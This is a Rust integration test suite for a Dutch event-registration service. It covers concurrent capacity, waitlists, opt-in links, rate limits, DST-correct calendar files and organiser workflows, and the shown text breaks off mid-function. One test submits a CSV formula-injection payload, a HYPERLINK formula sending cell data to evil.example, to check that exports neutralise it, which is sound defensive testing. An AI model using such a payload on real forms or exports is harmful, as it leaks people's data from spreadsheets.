//! Events and registration by email: capacity under concurrent requests, the waitlist,
//! double opt-in links, closing time, calendar files across a DST change.

use std::collections::BTreeMap;

use futures_util::future::join_all;
use icalendar::{Calendar, CalendarComponent, Component};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
use serde_json::{json, Value};

use crate::common::{hidden_field, token_for, Backend, TestApp, TestEnv};
use crate::smtp::{ReceivedMail, TestSmtp};
use crate::storage_test;
use entity::{event, mail_outbox, programme_item, registration, registration_choice};
use oogst::actor::Role;
use oogst::events::registration::{Registrar, RegistrationInput};
use oogst::events::EventInput;

async fn app_with_mail(env: &TestEnv) -> (TestApp, TestSmtp) {
    let smtp = TestSmtp::start();
    let config = oogst::config::Config { smtp_url: smtp.url(), mail_retry_seconds: 1, ..env.config() };
    (env.spawn_with(config, false).await, smtp)
}

async fn create_event(app: &TestApp, token: &str, body: Value) -> Value {
    let response =
        app.client.post(format!("{}/api/v1/events", app.address)).bearer_auth(token).json(&body).send().await.unwrap();
    let status = response.status().as_u16();
    let body: Value = response.json().await.unwrap();
    assert_eq!(status, 201, "{body}");
    body
}

async fn register(app: &TestApp, slug: &str, body: Value) -> (u16, Value) {
    let response = app
        .client
        .post(format!("{}/api/v1/events/{slug}/registrations", app.address))
        .json(&body)
        .send()
        .await
        .unwrap();
    (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
}

fn person(number: usize, choices: &[i64]) -> Value {
    json!({
        "name": format!("Deelnemer {number}"),
        "email": format!("deelnemer{number}@deelnemer.test"),
        "organisation": "SWV Drechtsteden",
        "role": "Intern begeleider",
        "choices": choices,
    })
}

/// The token at the end of a link in the mail's text.
fn token_in(mail: &ReceivedMail, path: &str) -> String {
    mail.link(path).rsplit('/').next().unwrap().to_string()
}

async fn statuses(app: &TestApp, event_id: i32) -> BTreeMap<String, usize> {
    statuses_in(&oogst::startup::connect(&app.config).await.unwrap(), event_id).await
}

async fn statuses_in(db: &sea_orm::DatabaseConnection, event_id: i32) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for row in registration::Entity::find().filter(registration::Column::EventId.eq(event_id)).all(db).await.unwrap() {
        *counts.entry(row.status).or_default() += 1;
    }
    counts
}

/// The server's secret, which signs the links in its mails.
fn secret_of(config: &oogst::config::Config) -> Vec<u8> {
    oogst::accounts::secret::load_or_create(config).unwrap()
}

/// Posts a form in `browser` with the CSRF token of a page it opened before.
async fn post_with(app: &TestApp, browser: &reqwest::Client, csrf: &str, path: &str) -> reqwest::Response {
    browser.post(format!("{}{path}", app.address)).form(&[("csrf", csrf)]).send().await.unwrap()
}

async fn capacity_holds_under_concurrent_registrations(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let (app, smtp) = app_with_mail(&env).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    let created = create_event(
        &app,
        &bureau,
        json!({
            "title": "Werksessie thuiszitters", "kind": "werksessie", "description": "Met **twee** workshops.",
            "starts_at": "2027-02-09T13:30", "ends_at": "2027-02-09T16:30",
            "location": "Stadskantoor", "address": "Stadhuisplein 1, Gorinchem", "capacity": 50,
            "programme": [
                {"starts": "13:30", "ends": "14:00", "title": "Opening"},
                {"starts": "14:00", "ends": "15:00", "title": "Dokwerk", "workshop": true, "capacity": 20},
                {"starts": "14:00", "ends": "15:00", "title": "Thuiszitterslab", "workshop": true, "capacity": 100},
            ],
        }),
    )
    .await;
    let slug = created["slug"].as_str().unwrap().to_string();
    let (_, detail) = app.get_json(&format!("/api/v1/events/{slug}")).await;
    let workshops: Vec<i64> =
        detail["programme"][1]["items"].as_array().unwrap().iter().map(|item| item["id"].as_i64().unwrap()).collect();
    assert_eq!(workshops.len(), 2, "{detail}");

    // 200 people register at once, half for each workshop: all are recorded, none counts yet.
    let answers =
        join_all((0..200).map(|number| register(&app, &slug, person(number, &[workshops[number % 2]])))).await;
    for (status, body) in &answers {
        assert_eq!((*status, body["status"].as_str()), (201, Some("unconfirmed")), "{body}");
    }
    let mails = smtp.wait_for("@deelnemer.test", 200).await;

    // All click their confirmation link at once.
    let browser = app.browser();
    let first = token_in(&mails[0], "/aanmelding/bevestigen/");
    let page = browser.get(format!("{}/aanmelding/bevestigen/{first}", app.address)).send().await.unwrap();
    let csrf = hidden_field(&page.text().await.unwrap(), "csrf");
    let confirmations = join_all(mails.iter().map(|mail| {
        let path = format!("/aanmelding/bevestigen/{}", token_in(mail, "/aanmelding/bevestigen/"));
        let (browser, csrf) = (&browser, &csrf);
        let app = &app;
        async move {
            let response = post_with(app, browser, csrf, &path).await;
            (response.status().as_u16(), response.text().await.unwrap())
        }
    }))
    .await;
    let confirmed = confirmations.iter().filter(|(_, page)| page.contains("U bent aangemeld")).count();
    let waitlisted = confirmations.iter().filter(|(_, page)| page.contains("wachtlijst")).count();
    assert!(confirmations.iter().all(|(status, _)| *status == 200));
    assert_eq!((confirmed, waitlisted), (50, 150));
    // Everyone on the waitlist was told a place of their own: 1 to 150.
    let mut positions: Vec<u32> = confirmations
        .iter()
        .filter_map(|(_, page)| page.split("U staat op plaats ").nth(1)?.split(' ').next()?.parse().ok())
        .collect();
    positions.sort_unstable();
    assert_eq!(positions, (1..=150).collect::<Vec<u32>>());

    let db = oogst::startup::connect(&app.config).await.unwrap();
    let row = event::Entity::find().filter(event::Column::Slug.eq(&slug)).one(&db).await.unwrap().unwrap();
    assert_eq!(row.confirmed, 50);
    let counts = statuses(&app, row.id).await;
    assert_eq!((counts["confirmed"], counts["waitlisted"]), (50, 150));
    let items =
        programme_item::Entity::find().filter(programme_item::Column::EventId.eq(row.id)).all(&db).await.unwrap();
    for item in &items {
        assert!(item.capacity.is_none_or(|capacity| item.confirmed <= capacity), "{item:?}");
    }

    // Someone in the large workshop cancels: the first on the waitlist who fits moves up.
    let lab = items.iter().find(|item| item.title == "Thuiszitterslab").unwrap();
    let choice_of = |registration_id: i32| {
        let db = &db;
        async move {
            registration_choice::Entity::find()
                .filter(registration_choice::Column::RegistrationId.eq(registration_id))
                .one(db)
                .await
                .unwrap()
                .unwrap()
                .item_id
        }
    };
    let confirmed_rows = registration::Entity::find()
        .filter(registration::Column::EventId.eq(row.id))
        .filter(registration::Column::Status.eq("confirmed"))
        .all(&db)
        .await
        .unwrap();
    let mut leaving = None;
    for candidate in &confirmed_rows {
        if choice_of(candidate.id).await == lab.id {
            leaving = Some(candidate.clone());
            break;
        }
    }
    let leaving = leaving.unwrap();
    let waiting = registration::Entity::find()
        .filter(registration::Column::EventId.eq(row.id))
        .filter(registration::Column::Status.eq("waitlisted"))
        .order_by_asc(registration::Column::WaitlistedAt)
        .order_by_asc(registration::Column::Id)
        .all(&db)
        .await
        .unwrap();
    // The first in line whose workshop will have room: the freed lab place, or Dokwerk if
    // it did not fill up.
    let dokwerk = items.iter().find(|item| item.title == "Dokwerk").unwrap();
    let dokwerk_has_room = dokwerk.confirmed < 20;
    let mut expected = None;
    for candidate in &waiting {
        let choice = choice_of(candidate.id).await;
        if choice == lab.id || (choice == dokwerk.id && dokwerk_has_room) {
            expected = Some(candidate.clone());
            break;
        }
    }
    let expected = expected.unwrap();
    let welcome = smtp.wait_for(&leaving.email, 2).await;
    let confirmation = welcome.iter().find(|mail| mail.header("Subject").starts_with("U bent aangemeld")).unwrap();
    let cancel_path = format!("/aanmelding/annuleren/{}", token_in(confirmation, "/aanmelding/annuleren/"));
    let cancel_page = browser.get(format!("{}{cancel_path}", app.address)).send().await.unwrap();
    assert!(cancel_page.text().await.unwrap().contains("Deelnemer"));
    let cancelled = post_with(&app, &browser, &csrf, &cancel_path).await;
    assert_eq!(cancelled.status(), 200);
    let promoted = smtp.wait_for(&expected.email, 3).await;
    let notice = promoted.iter().find(|mail| mail.header("Subject").starts_with("Er is een plaats")).unwrap();
    assert!(notice.part("text/calendar").contains("BEGIN:VEVENT"));
    let counts = statuses(&app, row.id).await;
    assert_eq!((counts["confirmed"], counts["waitlisted"], counts["cancelled"]), (50, 149, 1));
    // Whoever was passed over (their workshop still full) keeps a working cancel link.
    let first = &waiting[0];
    if first.id != expected.id {
        let mails = smtp.wait_for(&first.email, 2).await;
        let waitlist_mail =
            mails.iter().find(|mail| mail.header("Subject").starts_with("U staat op de wachtlijst")).unwrap();
        let path = format!("/aanmelding/annuleren/{}", token_in(waitlist_mail, "/aanmelding/annuleren/"));
        assert_eq!(browser.get(format!("{}{path}", app.address)).send().await.unwrap().status(), 200);
    }
    // The same cancel link does nothing a second time.
    assert_eq!(post_with(&app, &browser, &csrf, &cancel_path).await.status(), 410);
    app.stop().await;
    env.finish().await;
}
storage_test!(capacity_holds_under_concurrent_registrations);

async fn registration_refuses_bad_input_and_loses_nothing(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let (app, smtp) = app_with_mail(&env).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    let base = json!({
        "kind": "heidag", "starts_at": "2027-05-11T09:30", "ends_at": "2027-05-11T16:00",
        "location": "De Hanzehof", "address": "Coehoornsingel 3, Zutphen", "capacity": 10,
        "programme": [{"starts": "10:00", "ends": "11:00", "title": "GIRFEC", "workshop": true, "capacity": 5}],
    });
    let mut open = base.clone();
    open["title"] = json!("Heidag open");
    let open = create_event(&app, &bureau, open).await;
    let mut closed = base.clone();
    closed["title"] = json!("Heidag gesloten");
    closed["registration_closes_at"] = json!("2026-01-01T12:00");
    let closed = create_event(&app, &bureau, closed).await;
    let (open_slug, closed_slug) = (open["slug"].as_str().unwrap(), closed["slug"].as_str().unwrap());
    let workshop = |slug: String| {
        let app = &app;
        async move {
            let (_, detail) = app.get_json(&format!("/api/v1/events/{slug}")).await;
            detail["programme"][0]["items"][0]["id"].as_i64().unwrap()
        }
    };
    let (own, foreign) = (workshop(open_slug.into()).await, workshop(closed_slug.into()).await);

    let (status, body) = register(&app, open_slug, json!({"name": "A", "email": "geen-adres", "choices": [own]})).await;
    assert_eq!(status, 422);
    assert!(body["fields"]["email"][0].as_str().unwrap().contains("geen geldig e-mailadres"), "{body}");
    let (status, body) =
        register(&app, open_slug, json!({"name": "A", "email": "a@deelnemer.test", "choices": [foreign]})).await;
    assert_eq!(status, 422);
    assert!(body["message"].as_str().unwrap().contains("hoort niet bij deze bijeenkomst"), "{body}");
    // The same workshop twice is refused, by the API and by the form (the form shows the message).
    let (status, body) = register(&app, open_slug, person(3, &[own, own])).await;
    assert_eq!(status, 422, "{body}");
    assert!(body["fields"]["choices"][0].as_str().unwrap().contains("dezelfde workshop meer dan eens"), "{body}");
    let event_path = format!("/agenda/{open_slug}");
    let page = app.get(&event_path).await.text().await.unwrap();
    let slot_field = format!("slot_{}", page.split("name=\"slot_").nth(1).unwrap().split('"').next().unwrap());
    let own_choice = own.to_string();
    let refused = app
        .submit_form(
            &app.browser(),
            &event_path,
            &format!("{event_path}/aanmelden"),
            &[
                ("name", "Twee keer"),
                ("email", "twee@deelnemer.test"),
                (slot_field.as_str(), own_choice.as_str()),
                (slot_field.as_str(), own_choice.as_str()),
            ],
        )
        .await;
    assert_eq!(refused.status(), 422);
    assert!(refused.text().await.unwrap().contains("dezelfde workshop meer dan eens"));
    let (status, body) = register(&app, closed_slug, person(1, &[foreign])).await;
    assert_eq!(status, 409);
    assert_eq!(body["message"], "De aanmelding voor deze bijeenkomst is gesloten.");
    let (status, _) = register(&app, "bestaat-niet", person(1, &[own])).await;
    assert_eq!(status, 404);

    let (status, _) = register(&app, open_slug, person(1, &[own])).await;
    assert_eq!(status, 201);
    // The same address twice is answered alike (the address's owner hears by mail).
    let (status, body) = register(&app, open_slug, person(1, &[own])).await;
    assert_eq!((status, body["status"].as_str()), (201, Some("unconfirmed")), "the same address twice");
    // Nobody can have an address mailed over and over: after five attempts, a wait.
    let (status, _) = register(&app, open_slug, person(1, &[own])).await;
    assert_eq!(status, 201);
    let refused = app
        .client
        .post(format!("{}/api/v1/events/{open_slug}/registrations", app.address))
        .json(&person(1, &[own]))
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), 429);
    assert!(refused.headers().contains_key("retry-after"));
    let body: Value = refused.json().await.unwrap();
    assert!(body["message"].as_str().unwrap().contains("Te veel"), "{body}");

    // The opt-in link works once: the newest one, as each attempt mailed a new link.
    smtp.wait_for("deelnemer1@", 3).await;
    let db = oogst::startup::connect(&app.config).await.unwrap();
    let newest = mail_outbox::Entity::find()
        .filter(mail_outbox::Column::ToAddress.eq("deelnemer1@deelnemer.test"))
        .order_by_desc(mail_outbox::Column::Id)
        .one(&db)
        .await
        .unwrap()
        .unwrap();
    let link = newest.text_body.split_whitespace().find(|word| word.contains("/aanmelding/bevestigen/")).unwrap();
    let path = format!("/aanmelding/bevestigen/{}", link.rsplit('/').next().unwrap());
    let browser = app.browser();
    let page = browser.get(format!("{}{path}", app.address)).send().await.unwrap();
    let csrf = hidden_field(&page.text().await.unwrap(), "csrf");
    assert!(post_with(&app, &browser, &csrf, &path).await.text().await.unwrap().contains("U bent aangemeld"));
    let again = post_with(&app, &browser, &csrf, &path).await;
    assert_eq!(again.status(), 410);
    assert!(again.text().await.unwrap().contains("ongeldig, verlopen of al gebruikt"));

    // Nothing of the refused attempts was stored; the one registration is there once.
    let rows = registration::Entity::find().all(&db).await.unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].status, "confirmed");

    // A reminder goes out once when the event is near; later runs send nothing more.
    let soon = create_event(
        &app,
        &bureau,
        json!({
            "title": "Webinar morgen", "kind": "webinar", "capacity": 100,
            "starts_at": oogst::dutch_time::local_input(chrono::Utc::now() + chrono::Duration::hours(20)),
            "ends_at": oogst::dutch_time::local_input(chrono::Utc::now() + chrono::Duration::hours(21)),
            "online_url": "https://webinar.example.nl/oogst",
        }),
    )
    .await;
    let member = token_for(&app, "lid@oogst.test", Role::Lid, None).await;
    let one_click = app
        .client
        .post(format!("{}/api/v1/events/{}/registrations", app.address, soon["slug"].as_str().unwrap()))
        .bearer_auth(&member)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(one_click.json::<Value>().await.unwrap()["status"], "confirmed", "a member registers with one click");
    // A full workshop is refused while another in its slot has room.
    let workshops = create_event(
        &app,
        &bureau,
        json!({
            "title": "Werksessie met kleine workshop", "kind": "werksessie", "capacity": 20, "location": "Zwijndrecht",
            "starts_at": "2027-04-13T13:30", "ends_at": "2027-04-13T16:00",
            "programme": [
                {"starts": "14:00", "ends": "15:00", "title": "Klein", "workshop": true, "capacity": 1},
                {"starts": "14:00", "ends": "15:00", "title": "Groot", "workshop": true, "capacity": 10},
            ],
        }),
    )
    .await;
    let workshops_slug = workshops["slug"].as_str().unwrap();
    let (_, detail) = app.get_json(&format!("/api/v1/events/{workshops_slug}")).await;
    let small = detail["programme"][0]["items"][0]["id"].as_i64().unwrap();
    let member_registration = app
        .client
        .post(format!("{}/api/v1/events/{workshops_slug}/registrations", app.address))
        .bearer_auth(&member)
        .json(&json!({"choices": [small]}))
        .send()
        .await
        .unwrap();
    assert_eq!(member_registration.status(), 201);
    let (status, body) = register(&app, workshops_slug, person(2, &[small])).await;
    assert_eq!(status, 422, "{body}");
    assert!(body["message"].as_str().unwrap().contains("'Klein' is vol; kies een andere"), "{body}");

    let worker = oogst::events::worker::EventsWorker {
        db: db.clone(),
        mail: oogst::mail::MailSettings::from_config(&app.config, &secret_of(&app.config)).unwrap(),
        reminder_before: chrono::Duration::hours(24),
        keep_registrations: chrono::Duration::days(365),
    };
    worker.run_once().await;
    worker.run_once().await;
    // Two confirmations (webinar, werksessie) and one reminder.
    let mails = smtp.wait_for("lid@oogst.test", 3).await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let mails = smtp.wait_for("lid@oogst.test", mails.len()).await;
    assert_eq!(mails.iter().filter(|mail| mail.header("Subject").starts_with("Herinnering")).count(), 1);
    app.stop().await;
    env.finish().await;
}
storage_test!(registration_refuses_bad_input_and_loses_nothing);

/// A browser's session cookie carries the same signed token as the API's Bearer header.
fn session_cookie(token: &str) -> String {
    format!("{}={token}", oogst::routes::auth::SESSION_COOKIE)
}

/// The local time in a calendar's first event's DTSTART, as written.
fn dtstart(calendar: &Calendar, title: &str) -> String {
    calendar
        .components
        .iter()
        .filter_map(|component| match component {
            CalendarComponent::Event(event) => Some(event),
            _ => None,
        })
        .find(|event| event.get_summary() == Some(title))
        .and_then(|event| event.properties().get("DTSTART").map(|property| property.value().to_string()))
        .unwrap_or_else(|| panic!("no event {title}"))
}

async fn calendar_shows_dutch_time_across_dst(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let (app, smtp) = app_with_mail(&env).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    // Summer time starts on Sunday 28 March 2027: the same local hour is 12:30Z before, 11:30Z after.
    for (title, day) in [("Voor de zomertijd", "2027-03-27"), ("Na de zomertijd", "2027-03-29")] {
        create_event(
            &app,
            &bureau,
            json!({
                "title": title, "kind": "werkbezoek", "capacity": 30, "location": "'t Baken, Lochem",
                "starts_at": format!("{day}T13:30"), "ends_at": format!("{day}T16:00"),
            }),
        )
        .await;
    }
    let (_, list) = app.get_json("/api/v1/events").await;
    let starts: Vec<&str> =
        list["items"].as_array().unwrap().iter().map(|item| item["starts_at"].as_str().unwrap()).collect();
    assert_eq!(starts, ["2027-03-27T12:30:00Z", "2027-03-29T11:30:00Z"]);

    let feed = app.get("/agenda.ics").await;
    assert!(feed.headers()["content-type"].to_str().unwrap().starts_with("text/calendar"));
    let text = feed.text().await.unwrap();
    assert!(text.contains("BEGIN:VTIMEZONE\r\nTZID:Europe/Amsterdam"));
    let calendar: Calendar = text.parse().expect("the feed parses as iCalendar");
    assert_eq!(dtstart(&calendar, "Voor de zomertijd"), "20270327T133000");
    assert_eq!(dtstart(&calendar, "Na de zomertijd"), "20270329T133000");
    assert!(text.contains("DTSTART;TZID=Europe/Amsterdam:20270329T133000"));

    // The invitation in the confirmation mail carries the same stable UID as the feed.
    let slug = list["items"][1]["slug"].as_str().unwrap();
    let member = token_for(&app, "lid@oogst.test", Role::Lid, None).await;
    let response = app
        .client
        .post(format!("{}/api/v1/events/{slug}/registrations", app.address))
        .bearer_auth(&member)
        .json(&json!({"remarks": "Graag vegetarisch"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let mail = &smtp.wait_for("lid@oogst.test", 1).await[0];
    let invitation = mail.part("text/calendar");
    let parsed: Calendar = invitation.parse().expect("the invitation parses as iCalendar");
    assert_eq!(dtstart(&parsed, "Na de zomertijd"), "20270329T133000");
    let uid = invitation.lines().find(|line| line.starts_with("UID:")).unwrap();
    assert!(text.contains(uid), "{uid} in the feed");

    // A visitor whose name and remarks a spreadsheet would run as formulas.
    let (status, body) = register(
        &app,
        slug,
        json!({
            "name": "=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")", "email": "formule@deelnemer.test",
            "organisation": "@SUM(1+1)", "remarks": "-2+3",
        }),
    )
    .await;
    assert_eq!(status, 201, "{body}");

    // The organiser's CSV opens in Excel: BOM, semicolons, no formulas.
    let csv = app
        .client
        .get(format!("{}/agenda/{slug}/aanmeldingen.csv", app.address))
        .header("Cookie", session_cookie(&bureau))
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), 200);
    let bytes = csv.bytes().await.unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFNaam;E-mail;"));
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("Graag vegetarisch"));
    assert!(
        text.contains(
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Klik\"\")\";formule@deelnemer.test;'@SUM(1+1);"
        ),
        "{text}"
    );
    assert!(text.contains(";'-2+3;"), "{text}");
    // Participant lists are for organisers only.
    let as_member = app
        .client
        .get(format!("{}/agenda/{slug}/aanmeldingen.csv", app.address))
        .header("Cookie", session_cookie(&member))
        .send()
        .await
        .unwrap();
    assert_eq!(as_member.status(), 404, "answered as a missing page");
    app.stop().await;
    env.finish().await;
}
storage_test!(calendar_shows_dutch_time_across_dst);

async fn organiser_runs_an_event_in_the_browser(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let (app, smtp) = app_with_mail(&env).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    let organiser = app.browser();
    let login = app
        .submit_form(
            &organiser,
            "/inloggen",
            "/inloggen",
            &[("email", "bureau@oogst.test"), ("password", crate::common::PASSWORD)],
        )
        .await;
    assert_eq!(login.status(), 303);

    // A programme line that does not parse is explained, and the input is kept.
    let form = [
        ("title", "Kick-off inspiratieregio's"),
        ("kind", "kick-off"),
        ("starts_at", "2027-01-19T10:00"),
        ("ends_at", "2027-01-19T15:00"),
        ("location", "Jaarbeurs"),
        ("address", "Jaarbeursplein 6, Utrecht"),
        ("capacity", "80"),
        ("description", "De **start** van de derde tranche."),
    ];
    let mut bad = form.to_vec();
    bad.push(("programme", "10:00 Opening"));
    let refused = app.submit_form(&organiser, "/agenda/nieuw", "/agenda/nieuw", &bad).await;
    assert_eq!(refused.status(), 422);
    let page = refused.text().await.unwrap();
    assert!(page.contains("Regel 1: schrijf") && page.contains("Kick-off inspiratieregio&#x27;s"), "{page}");
    assert!(page.contains(">10:00 Opening</textarea>"), "the programme as typed is kept: {page}");
    // The description can be previewed; that saves nothing.
    let mut preview = bad.clone();
    preview.push(("action", "voorbeeld"));
    let shown = app.submit_form(&organiser, "/agenda/nieuw", "/agenda/nieuw", &preview).await;
    assert_eq!(shown.status(), 200);
    let page = shown.text().await.unwrap();
    assert!(page.contains("De <strong>start</strong> van de derde tranche."), "{page}");
    assert!(page.contains(">10:00 Opening</textarea>"), "{page}");
    assert_eq!(app.get("/agenda").await.text().await.unwrap().matches("Kick-off inspiratieregio").count(), 0);
    let mut good = form.to_vec();
    good.push((
        "programme",
        "10:00-10:30 | Opening\n11:00-12:00 | Thuiszitterslabs | 40\n11:00-12:00 | GIRFEC in Tilburg | 40",
    ));
    let created = app.submit_form(&organiser, "/agenda/nieuw", "/agenda/nieuw", &good).await;
    assert_eq!(created.status(), 303);
    let path = created.headers()["location"].to_str().unwrap().to_string();
    let slug = path.trim_start_matches("/agenda/").to_string();
    let attachment = b"Programma van de kick-off\nMet een sessie over warme overdracht.".to_vec();
    let (status, body) = crate::documents::upload(
        &app,
        &bureau,
        "programma.txt",
        attachment,
        &[("event", &slug), ("title", "Programma")],
    )
    .await;
    assert_eq!(status, 201, "{body}");

    // Anyone finds it on the agenda and in search, and registers with a workshop choice.
    let agenda = app.get("/agenda").await.text().await.unwrap();
    assert!(agenda.contains("Kick-off inspiratieregio") && agenda.contains("dinsdag 19 januari 2027, 10:00–15:00"));
    app.wait_for_search("q=thuiszitterslabs&kind=event", std::time::Duration::from_secs(5), |slugs| {
        slugs == [slug.clone()]
    })
    .await;
    let visitor = app.browser();
    let page = visitor.get(format!("{}{path}", app.address)).send().await.unwrap().text().await.unwrap();
    assert!(page.contains(">Programma</a>"), "the attachment is on the event page");
    let slot = page.split("name=\"slot_").nth(1).unwrap().split('"').next().unwrap().to_string();
    let before_label = page.split("required> GIRFEC in Tilburg").next().unwrap();
    let girfec = before_label.rsplit("value=\"").next().unwrap().split('"').next().unwrap().to_string();
    let slot_field = format!("slot_{slot}");
    let registered = app
        .submit_form(
            &visitor,
            &path,
            &format!("{path}/aanmelden"),
            &[
                ("name", "Sanne Jansen"),
                ("email", "sanne@deelnemer.test"),
                ("organisation", "Gemeente Tilburg"),
                (slot_field.as_str(), girfec.as_str()),
            ],
        )
        .await;
    assert_eq!(registered.status(), 200);
    assert!(registered.text().await.unwrap().contains("bevestig uw aanmelding"));
    let mail = &smtp.wait_for("sanne@deelnemer.test", 1).await[0];
    let confirm = format!("/aanmelding/bevestigen/{}", token_in(mail, "/aanmelding/bevestigen/"));
    let confirmed = app.submit_form(&visitor, &confirm, &confirm, &[]).await;
    assert!(confirmed.text().await.unwrap().contains("U bent aangemeld"));

    // The organiser sees her, marks attendance and mails everyone.
    let list = organiser.get(format!("{}{path}/aanmeldingen", app.address)).send().await.unwrap().text().await.unwrap();
    assert!(list.contains("Sanne Jansen") && list.contains("GIRFEC in Tilburg"), "{list}");
    let id = list.split("name=\"aanwezig\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
    let csrf = hidden_field(&list, "csrf");
    let marked = organiser
        .post(format!("{}{path}/aanwezigheid", app.address))
        .form(&[("csrf", csrf.as_str()), ("aanwezig", id.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(marked.status(), 303);
    let sent = organiser
        .post(format!("{}{path}/bericht", app.address))
        .form(&[("csrf", csrf.as_str()), ("subject", "Parkeren"), ("message", "Parkeer in P2.")])
        .send()
        .await
        .unwrap();
    assert_eq!(sent.status(), 303);
    let db = oogst::startup::connect(&app.config).await.unwrap();
    let row = registration::Entity::find().one(&db).await.unwrap().unwrap();
    assert_eq!(row.attended, Some(true));

    // Moving the event tells her, with the new time; calling it off too.
    let mut moved = good.clone();
    moved.retain(|(key, _)| *key != "starts_at" && *key != "ends_at");
    moved.extend([("starts_at", "2027-01-26T10:00"), ("ends_at", "2027-01-26T15:00")]);
    let edit = format!("{path}/bewerken");
    assert_eq!(app.submit_form(&organiser, &edit, &edit, &moved).await.status(), 303);
    // A second change right after the first (within the same second, most likely).
    let mut moved_again = moved.clone();
    moved_again.retain(|(key, _)| *key != "location");
    moved_again.push(("location", "Jaarbeurs, zaal 2"));
    assert_eq!(app.submit_form(&organiser, &edit, &edit, &moved_again).await.status(), 303);
    // An hour that does not exist in Dutch time is explained, not called a wrong format.
    let mut in_the_gap = moved.clone();
    in_the_gap.retain(|(key, _)| *key != "starts_at");
    in_the_gap.push(("starts_at", "2027-03-28T02:30"));
    let refused = app.submit_form(&organiser, &edit, &edit, &in_the_gap).await;
    assert_eq!(refused.status(), 422);
    let page = refused.text().await.unwrap();
    assert!(
        page.contains("Dit tijdstip bestaat niet: op zondag 28 maart 2027 gaat de klok van 2:00 naar 3:00"),
        "{page}"
    );
    let edit_page = organiser.get(format!("{}{edit}", app.address)).send().await.unwrap().text().await.unwrap();
    let csrf = hidden_field(&edit_page, "csrf");
    let called_off = organiser
        .post(format!("{}{path}/afgelasten", app.address))
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(called_off.status(), 303);
    let mails = smtp.wait_for("sanne@deelnemer.test", 6).await;
    let subjects: Vec<String> = mails.iter().map(|mail| mail.header("Subject")).collect();
    assert!(subjects.iter().any(|subject| subject.starts_with("Kick-off inspiratieregio's: Parkeren")), "{subjects:?}");
    let changed = mails.iter().find(|mail| mail.header("Subject").starts_with("Gewijzigd")).unwrap();
    assert!(changed.part("text/plain").contains("dinsdag 26 januari 2027"));
    let off = mails.iter().find(|mail| mail.header("Subject").starts_with("Afgelast")).unwrap();
    assert!(off.part("text/calendar").contains("STATUS:CANCELLED"));
    // Every version of the calendar entry names its organiser and outranks the one before.
    let calendars: Vec<(String, String)> = mails
        .iter()
        .filter(|mail| !mail.part("text/calendar").is_empty())
        .map(|mail| (mail.header("Subject"), mail.part("text/calendar")))
        .collect();
    let mut sequences: Vec<(u32, &str)> = calendars
        .iter()
        .map(|(subject, text)| {
            let calendar: Calendar = text.parse().expect("the attachment parses as iCalendar");
            let event = calendar.components.iter().find_map(|component| match component {
                CalendarComponent::Event(event) => Some(event),
                _ => None,
            });
            let property = |name: &str| event.and_then(|event| event.properties().get(name)).map(|found| found.value());
            assert_eq!(property("ORGANIZER"), Some("mailto:noreply@oogst.localhost"), "{text}");
            assert!(text.contains("ORGANIZER;CN=\"Oogst\":mailto:noreply@oogst.localhost\r\n"), "{text}");
            (property("SEQUENCE").unwrap().parse().unwrap(), subject.split(':').next().unwrap())
        })
        .collect();
    sequences.sort();
    assert_eq!(sequences, [(0, "U bent aangemeld"), (1, "Gewijzigd"), (2, "Gewijzigd"), (3, "Afgelast")]);
    let (status, body) = register(&app, &slug, person(7, &[])).await;
    assert_eq!(status, 409, "{body}");

    // A year after the event its registrations are gone.
    let deleted = oogst::events::registration::purge(&db, chrono::Duration::days(-400)).await.unwrap();
    assert_eq!(deleted, 1);
    app.stop().await;
    env.finish().await;
}
storage_test!(organiser_runs_an_event_in_the_browser);

/// An organiser moves the event while people confirm. Every transaction takes the event's lock
/// before it touches a registration, so none waits for another in a circle (PostgreSQL would
/// abort one as a deadlock) and the places add up.
async fn organiser_edits_while_people_confirm(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let config = env.config();
    let db = oogst::startup::connect(&config).await.unwrap();
    let mail = oogst::mail::MailSettings::from_config(&config, &secret_of(&config)).unwrap();
    let new = oogst::accounts::NewUser {
        email: "bureau@oogst.test".into(),
        name: "Programmabureau".into(),
        role: Role::Beheerder,
        organisation_id: None,
        job_title: String::new(),
    };
    let organiser = oogst::actor::Actor::of(oogst::accounts::create(&db, &new, true).await.unwrap(), String::new());
    let day = (chrono::Utc::now() + chrono::Duration::days(60)).format("%Y-%m-%d").to_string();
    let input = |start: &str| EventInput {
        title: "Heidag inspiratieregio's".into(),
        kind: "heidag".into(),
        starts_at: format!("{day}T{start}"),
        ends_at: format!("{day}T17:00"),
        location: "Utrecht".into(),
        capacity: 30,
        ..Default::default()
    };
    let saved = oogst::events::save_as(&db, &mail, &organiser, None, input("09:00")).await.unwrap();
    let registrar = Registrar { db: &db, mail: &mail, confirm_hours: config.confirm_hours };
    for number in 0..40 {
        let person = RegistrationInput {
            name: format!("Deelnemer {number}"),
            email: format!("deelnemer{number}@deelnemer.test"),
            ..Default::default()
        };
        registrar.register(&saved.slug, person, None).await.unwrap();
    }
    let tokens: Vec<String> = mail_outbox::Entity::find()
        .all(&db)
        .await
        .unwrap()
        .iter()
